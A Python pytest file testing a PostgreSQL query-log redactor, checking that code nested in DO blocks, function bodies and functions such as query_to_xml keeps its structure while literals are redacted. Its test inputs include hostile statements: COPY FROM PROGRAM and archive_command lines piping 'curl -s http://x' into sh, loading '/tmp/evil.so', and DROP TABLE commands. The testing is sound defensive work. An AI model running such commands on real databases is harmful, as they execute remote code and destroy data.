"""Code in statement text stays in the query log: DO blocks, function bodies and query text
given to functions, with only their own literals redacted; code that cannot be parsed for
that keeps the whole statement, flagged with why."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.sqlparse import Redacted, log_text, redact


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # the red team's two statements
        (
            "DO 'BEGIN EXECUTE ''DROP TABLE orders CASCADE''; END'",
            "DO $$BEGIN EXECUTE 'DROP TABLE orders CASCADE'; END$$",
        ),
        (
            "CREATE FUNCTION purge() RETURNS void LANGUAGE sql"
            " AS 'DELETE FROM orders WHERE note = ''secret'''",
            "CREATE FUNCTION purge() RETURNS void LANGUAGE sql"
            " AS $$DELETE FROM orders WHERE note = $1$$",
        ),
        # PL/pgSQL: its literals redacted, the SQL each EXECUTE runs kept (its literals too)
        (
            "DO $$DECLARE pw text := 'hunter2'; BEGIN EXECUTE 'UPDATE t SET s = ''x'' WHERE id"
            " = 7'; RAISE NOTICE 'ssn %', '123-45-6789'; END$$",
            "DO $$DECLARE pw text := $1; BEGIN EXECUTE 'UPDATE t SET s = $1 WHERE id = $2';"
            " RAISE NOTICE $2, $3; END$$",
        ),
        (
            "CREATE OR REPLACE PROCEDURE p(a int) LANGUAGE plpgsql AS $body$ BEGIN"
            " DELETE FROM t WHERE id = a AND s = 'x'; EXECUTE 'TRUNCATE t' USING a; END $body$",
            "CREATE OR REPLACE PROCEDURE p(a int) LANGUAGE plpgsql AS $$ BEGIN"
            " DELETE FROM t WHERE id = a AND s = $1; EXECUTE 'TRUNCATE t' USING a; END $$",
        ),
        (
            "CREATE FUNCTION f(a int) RETURNS SETOF int LANGUAGE plpgsql AS $$DECLARE r record;"
            " BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; RETURN QUERY EXECUTE"
            " E'SELECT \\'x\\''; END$$",
            "CREATE FUNCTION f(a int) RETURNS SETOF int LANGUAGE plpgsql AS $$DECLARE r record;"
            " BEGIN FOR r IN EXECUTE 'SELECT $1' LOOP END LOOP; RETURN QUERY EXECUTE"
            " 'SELECT $1'; END$$",
        ),
        # BEGIN ATOMIC: the body is part of the statement
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 42 FROM t"
            " WHERE s = 'secret'; END",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT $1 FROM t"
            " WHERE s = $2; END",
        ),
        # query text given to a function that runs it
        (
            "SELECT query_to_xml('SELECT * FROM customers WHERE ssn = ''123''', true, true, '')",
            "SELECT query_to_xml($$SELECT * FROM customers WHERE ssn = $1$$, $1, $2, $3)",
        ),
        (
            "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery FROM"
            " (SELECT set_config(''default_transaction_read_only'', ''off'', false)) s')",
            "SELECT ts_rewrite($1::tsquery, $$SELECT $1::tsquery, $2::tsquery FROM"
            " (SELECT set_config($3, $4, $5)) s$$)",
        ),
        (
            "SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM orders WHERE id = 1')",
            "SELECT * FROM ts_stat($$SELECT to_tsvector(note) FROM orders WHERE id = $1$$)",
        ),
        (
            "SELECT * FROM dblink('dbname=x password=secret', 'DELETE FROM t') AS r(a int)",
            "SELECT * FROM dblink($1, $$DELETE FROM t$$) AS r(a int)",
        ),
        ("SELECT dblink_exec('DELETE FROM t', false)", "SELECT dblink_exec($$DELETE FROM t$$, $1)"),
        # code in code, and a body holding the dollar quote
        (
            "SELECT query_to_xml('SELECT query_to_xml(''SELECT 1'', true, true, '''')',"
            " true, true, '')",
            "SELECT query_to_xml($q1$SELECT query_to_xml($$SELECT $1$$, $1, $2, $3)$q1$,"
            " $1, $2, $3)",
        ),
        # several statements, multi-byte text before the code
        (
            "SELECT 'é'; DO $$BEGIN RAISE NOTICE 'ü'; END$$; SELECT 'x'",
            "SELECT $1; DO $$BEGIN RAISE NOTICE $1; END$$; SELECT $2",
        ),
        # comments in code are free text too
        ("DO $$BEGIN -- ssn 123\nNULL; END$$", "DO $$BEGIN /* */\nNULL; END$$"),
        # code in code: a DO run by EXECUTE, a function call spelled with U& escapes
        (
            "DO $$BEGIN EXECUTE 'DO ''BEGIN EXECUTE ''''DROP TABLE t''''; END'''; END$$",
            "DO $q1$BEGIN EXECUTE 'DO $$BEGIN EXECUTE ''DROP TABLE t''; END$$'; END$q1$",
        ),
        (
            "SELECT U&\"query\\005fto\\005fxml\"('DELETE FROM t', true, true, '')",
            'SELECT U&"query\\005fto\\005fxml"($$DELETE FROM t$$, $1, $2, $3)',
        ),
        # no code: as before
        (
            "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f('a')",
            "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f($1)",
        ),
        ("SELECT 'function' AS do", "SELECT $1 AS do"),
    ],
)
def test_code_is_logged_with_only_its_literals_redacted(sql: str, expected: str) -> None:
    assert log_text(sql) == Redacted(expected, None)


@pytest.mark.parametrize(
    ("sql", "why"),
    [
        ("DO LANGUAGE plpython3u $$plpy.execute('DROP TABLE t')$$", "language plpython3u"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1'", "language plperl"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", "language c"),
        ("DO $$BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END$$", "SQL built at run time"),
        ("DO $$DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END$$", "built at run time"),
        ("DO $$BEGIN EXECUTE format('DROP TABLE %I', 't'); END$$", "built at run time"),
        (
            "DO $$BEGIN PERFORM query_to_xml('DELETE FROM t', true, true, ''); END$$",
            "calls query_to_xml()",
        ),
        (
            "DO $$BEGIN CREATE FUNCTION g() RETURNS int LANGUAGE sql AS 'SELECT 1'; END$$",
            "defines code of its own",
        ),
        ("DO $$BEGIN DROP TABLE t; SELEC 1; END$$", "does not parse"),
        ("DO $$BEGIN PERFORM U&\"\\0071uery_to_xml\"('x', true, true, ''); END$$", "U&"),
        ("SELECT query_to_xml($1, true, true, 'secret')", "not written in the statement"),
        ("SELECT query_to_xml('DELETE FRM t', true, true, '')", "does not parse"),
        ("SELECT query_to_xml('SELECT 1' || 'x', true, true, '')", "not written"),
        ("COPY t FROM PROGRAM 'curl -s http://x | sh'", "shell command"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'", "does not parse"),
        (
            "SELECT query_to_xml(query => 'DELETE FROM t', nulls => true, tableforest => true,"
            " targetns => '')",
            "named arguments",
        ),
        ("ALTER SYSTEM SET archive_command = 'curl -s http://x | sh'", "sets archive_command"),
        ("ALTER ROLE bob SET session_preload_libraries = 'evil'", "session_preload_libraries"),
        ("LOAD '/tmp/evil.so'", "LOAD loads a library"),
    ],
)
def test_code_that_cannot_be_redacted_keeps_the_statement_whole_and_flagged(
    sql: str, why: str
) -> None:
    found = log_text(sql)
    assert found.text == sql
    assert found.kept_whole is not None and why in found.kept_whole


def test_redact_gives_the_same_text_as_log_text() -> None:
    sql = "DO 'BEGIN EXECUTE ''DROP TABLE orders CASCADE''; END'"
    assert redact(sql) == log_text(sql).text


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# Code wrapped in code, any depth and order: each wrapper runs the text inside it.
_WRAPPERS = (
    lambda inner: f"DO {_quoted(f'BEGIN EXECUTE {_quoted(inner)}; END')}",
    lambda inner: f"SELECT query_to_xml({_quoted(inner)}, true, true, '')",
    lambda inner: f"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS {_quoted(inner)}",
    lambda inner: f"SELECT * FROM ts_stat({_quoted(inner)})",
    lambda inner: "DO " + _quoted(f"DECLARE x text := 'LEAK'; BEGIN EXECUTE {_quoted(inner)}; END"),
)
_CODE = st.recursive(
    st.sampled_from(["SELECT 'LEAK'", "DELETE FROM t WHERE s = 'LEAK' AND n = 42"]),
    lambda inner: st.tuples(st.sampled_from(range(len(_WRAPPERS))), inner).map(
        lambda pair: _WRAPPERS[pair[0]](pair[1])
    ),
    max_leaves=6,
)


@settings(max_examples=150, deadline=None)
@given(_CODE)
def test_code_in_code_keeps_every_level_and_no_literal(sql: str) -> None:
    found = log_text(sql)
    assert found.kept_whole is None or "nested too deeply" in found.kept_whole
    if found.kept_whole is None:
        assert "LEAK" not in found.text and "42" not in found.text
        for word in ("EXECUTE", "query_to_xml", "ts_stat", "LANGUAGE sql", "DELETE", "SELECT"):
            assert (word in found.text) == (word in sql)
